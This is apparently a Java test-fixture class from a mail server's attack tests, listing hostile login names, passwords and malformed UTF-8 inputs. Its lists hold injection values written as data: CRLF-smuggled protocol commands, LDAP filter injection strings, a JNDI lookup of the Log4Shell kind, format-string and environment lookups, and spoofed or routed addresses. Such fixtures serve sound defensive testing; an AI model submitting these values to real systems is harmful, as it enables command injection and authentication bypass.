package org.openmmp.it.attack;

import java.util.List;

/** Names and passwords that a protocol, a filter, a log or a metric could trip over. */
final class HostileText {
  private HostileText() {}

  /** Passwords: each reaches a store as it is, or not at all. */
  static List<String> passwords() {
    return List.of(
        "x\r\ny LOGOUT",
        "x\ny LOGOUT",
        "x\ry LOGOUT",
        "x\0y",
        "x\" y",
        "x\\",
        "{5}",
        "x {5}",
        "x{3+}",
        "x\r\n",
        "\r\nx",
        " x",
        "x ",
        "  ",
        "(x)",
        "x]\"\r\nP9 OK",
        "\u00e4\u00f6 \u20ac",
        "*",
        "=",
        "==",
        ".",
        "\t",
        "PASS x",
        "+OK in");
  }

  /** Names that are nobody's where {@code amy@example.test} is the only user like them. */
  static List<String> names() {
    return List.of(
        "amy@example.test\r\ny LOGOUT",
        "amy@example.test\ny",
        "amy@example.test\0",
        "amy@example.test\" x",
        "*",
        "a*@example.test",
        "amy)(mail=*",
        "a)(mail=*))(|(uid=*@example.test",
        "\\2a",
        "amy\\2a@example.test",
        "amy,dc=test",
        "uid=amy,o=example.test",
        "amy+x=y@example.test",
        "#616d79",
        "@",
        "@example.test",
        "amy@",
        "amy@.",
        "amy@example..test",
        "amy@evil:143",
        "amy@evil.test",
        "amy%evil.test",
        "evil!amy",
        "amy@example.test@evil.test",
        "amy@[127.0.0.1]",
        "amy@127.0.0.1",
        " amy@example.test",
        "amy @example.test",
        "am\u00ady@example.test",
        "amy@example.test\u200b",
        "\u202eyma@example.test",
        "\ud800",
        "%s%n${jndi:ldap://x/y}@example.test",
        "${env:HOME}",
        "{}",
        "openmmp_logins_total{outcome=\"accepted\"} 9");
  }

  /** Octets that are no UTF-8, as ISO-8859-1. */
  static List<String> malformed() {
    return List.of(
        "\u00ff\u00fe",
        "amy\u00c3",
        "\u00c0\u00afamy",
        "\u00ed\u00a0\u0080",
        "\u00f5\u0080\u0080\u0080");
  }
}
